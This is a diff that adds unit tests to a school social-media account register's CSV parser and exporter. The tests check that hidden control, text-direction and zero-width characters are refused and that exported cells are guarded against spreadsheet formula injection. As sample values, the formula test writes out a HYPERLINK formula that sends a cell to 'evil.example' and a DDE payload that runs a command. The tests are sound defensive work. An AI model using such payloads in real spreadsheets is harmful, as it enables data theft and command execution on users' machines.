@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import {
@@ -315,6 +316,76 @@ describe('parseRegisterCsv: rejected input', () => {
   });
 });
 
+describe('parseRegisterCsv: characters a cell may not hold', () => {
+  const ROW = `facebook,a,${OK_TAIL}`;
+  /** The error for a file whose one row has `value` in `column` (added after the required columns when optional). */
+  const errorFor = (column: string, value: string) => {
+    const header = HEADER.split(',');
+    const cells = ROW.split(',');
+    const quoted = `"${value.replaceAll('"', '""')}"`;
+    if (header.includes(column)) cells[header.indexOf(column)] = quoted;
+    else {
+      header.push(column);
+      cells.push(quoted);
+    }
+    return errorsOf(parseRegisterCsv(csv(header.join(','), cells.join(','))));
+  };
+
+  it('refuses control characters, naming the line and the column, and reports the column only once', () => {
+    expect(errorFor('handle', 'oakfield\tpe')).toEqual([{ line: 2, reason: 'handle: contains a control character (U+0009 tab)' }]);
+    expect(errorFor('school', 'oak\u0000field')).toEqual([{ line: 2, reason: 'school: contains a control character (U+0000 NUL)' }]);
+    expect(errorFor('purpose', 'news\u0085and events')).toEqual([{ line: 2, reason: 'purpose: contains a control character (U+0085)' }]);
+    expect(errorFor('audience', 'parents\u001b[31m')).toEqual([{ line: 2, reason: 'audience: contains a control character (U+001B escape)' }]);
+    // A cell trimmed on import is checked as written: a trailing tab is refused too.
+    expect(errorFor('linked_email', 'office@oakfield.sch.uk\t')).toEqual([{ line: 2, reason: 'linked_email: contains a control character (U+0009 tab)' }]);
+  });
+
+  it('refuses text-direction overrides, embeddings, isolates and marks', () => {
+    for (const c of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
+      const [error] = errorFor('handle', `oakfield${c}ep_`);
+      expect(error!.reason).toMatch(/^handle: contains a text-direction character \(U\+[0-9A-F]{4} [A-Za-z -]+\)$/);
+    }
+    expect(errorFor('published_name', 'Oakfield \u202eAcademy')).toEqual([
+      { line: 2, reason: 'published_name: contains a text-direction character (U+202E right-to-left override)' },
+    ]);
+  });
+
+  it('refuses zero-width characters, even where an address would otherwise be refused for another reason', () => {
+    expect(errorFor('linked_email', 'office\u200b@oakfield.sch.uk')).toEqual([
+      { line: 2, reason: 'linked_email: contains an invisible zero-width character (U+200B zero-width space)' },
+    ]);
+    expect(errorFor('admins', 'a.one@oakfield.sch.uk;\ufeffb.two@oakfield.sch.uk')[0]!.reason).toBe('admins: contains an invisible zero-width character (U+FEFF zero-width no-break space)');
+    expect(errorFor('handle', 'oak\u200dfield')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+200D zero-width joiner)');
+    expect(errorFor('handle', 'oak\u2060field')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+2060 word joiner)');
+  });
+
+  it('lets purpose and audience span lines, and no other column', () => {
+    const rows = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,audience`, `${ROW},"news\r\nand events","parents\nand carers"`)));
+    expect(rows[0]).toMatchObject({ purpose: 'news\r\nand events', audience: 'parents\nand carers' });
+    expect(errorFor('published_name', 'Oakfield\nAcademy')).toEqual([
+      { line: 2, reason: 'published_name: contains a line break (only purpose and audience may span lines)' },
+    ]);
+    expect(errorFor('handle', 'oak\rfield')[0]!.reason).toBe('handle: contains a line break (only purpose and audience may span lines)');
+  });
+
+  it('lets free text hold emoji joined by a zero-width joiner, and nothing else joined by one', () => {
+    const emoji = '\u{1F469}\u200d\u{1F4BB} and \u{1F3F3}\ufe0f\u200d\u{1F308} and \u{1F469}\u{1F3FD}\u200d\u{1F52C}';
+    const rows = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,published_name`, `${ROW},${emoji},Pride ${emoji}`)));
+    expect(rows[0]).toMatchObject({ purpose: emoji, publishedName: `Pride ${emoji}` });
+    expect(errorFor('purpose', 'news\u200dletters')[0]!.reason).toBe('purpose: contains an invisible zero-width character (U+200D zero-width joiner)');
+    expect(errorFor('handle', '\u{1F469}\u200d\u{1F4BB}')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+200D zero-width joiner)');
+  });
+
+  it('reports every bad cell of a row with the row\'s other problems, and ignores extra columns', () => {
+    const text = csv(`${HEADER},notes,purpose`, `myspace,\u202eep_dleifkao,oakfield,office@oakfield.sch.uk,a.one@oakfield.sch.uk,k.williams@oakfield.sch.uk,"tab\there",x\u0007`);
+    expect(errorsOf(parseRegisterCsv(text))).toEqual([{
+      line: 2,
+      reason: expect.stringMatching(/^handle: contains a text-direction character \(U\+202E right-to-left override\); purpose: contains a control character \(U\+0007\); platform: "myspace" is not a known platform/),
+    }]);
+    expect(rowsOf(parseRegisterCsv(csv(`${HEADER},notes`, `${ROW},"a note\twith a tab\nand a line break"`)))).toHaveLength(1);
+  });
+});
+
 describe('registerToCsv', () => {
   const rows: AccountFields[] = [
     {
@@ -373,6 +444,46 @@ describe('registerToCsv', () => {
   it('round trips the sample register', () => {
     const sample = withoutLine(rowsOf(parseRegisterCsv(readFileSync(sampleUrl))));
     expect(withoutLine(rowsOf(parseRegisterCsv(registerToCsv(sample))))).toEqual(sample);
+  });
+
+  it('writes a cell that would start a formula with a leading \', and reads it back as it was', () => {
+    const risky: AccountFields = {
+      platform: 'instagram',
+      handle: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      school: '+oakfield',
+      linkedEmail: '-office@oakfield.sch.uk',
+      admins: ['=a@oakfield.sch.uk', 'b@oakfield.sch.uk'],
+      mainSupervisor: '+k.williams@oakfield.sch.uk',
+      url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      purpose: "'=already quoted by hand",
+      audience: "''+two quotes",
+      publishedName: "'plain, with a quote",
+      monitoringFrequency: 'weekly',
+    };
+    const out = registerToCsv([risky]);
+    const cells = parse(out, { relax_quotes: false })[1] as string[];
+    const byColumn = Object.fromEntries(REGISTER_COLUMNS.map((c, i) => [c, cells[i]]));
+    expect(byColumn).toMatchObject({
+      handle: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
+      school: "'+oakfield",
+      linked_email: "'-office@oakfield.sch.uk",
+      admins: "'=a@oakfield.sch.uk;b@oakfield.sch.uk",
+      main_supervisor: "'+k.williams@oakfield.sch.uk",
+      url: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      purpose: "''=already quoted by hand",
+      audience: "'''+two quotes",
+      published_name: "'plain, with a quote",
+      monitoring_frequency: 'weekly',
+    });
+    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
+    expect(withoutLine(rowsOf(parseRegisterCsv(out)))).toEqual([risky]);
+  });
+
+  it('import takes one leading \' off a cell only when a formula character follows it', () => {
+    const [row] = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,audience,published_name`, `facebook,'=SUM(A1),${OK_TAIL},'-5,''@all,'O'Brien`)));
+    expect(row).toMatchObject({ handle: '=SUM(A1)', purpose: '-5', audience: "'@all", publishedName: "'O'Brien" });
+    // An @ after the quote is the export's protection too; the handle's own leading @ is then ignored as usual.
+    expect(rowsOf(parseRegisterCsv(csv(HEADER, `facebook,'@OakfieldPE,${OK_TAIL}`)))[0]!.handle).toBe('OakfieldPE');
   });
 });
 
